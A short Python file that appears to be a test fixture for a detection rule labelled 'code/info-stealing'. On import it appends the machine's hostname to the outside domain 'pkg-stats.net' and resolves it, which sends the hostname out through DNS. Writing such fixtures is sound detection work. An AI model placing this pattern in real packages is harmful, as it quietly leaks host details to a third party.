import socket


def _ping():
    # The host name goes out inside a domain someone else answers for, by way of a variable.
    name = socket.gethostname() + ".pkg-stats.net"
    try:
        # ruleid: code/info-stealing
        socket.gethostbyname(name)
    except OSError:
        pass


_ping()
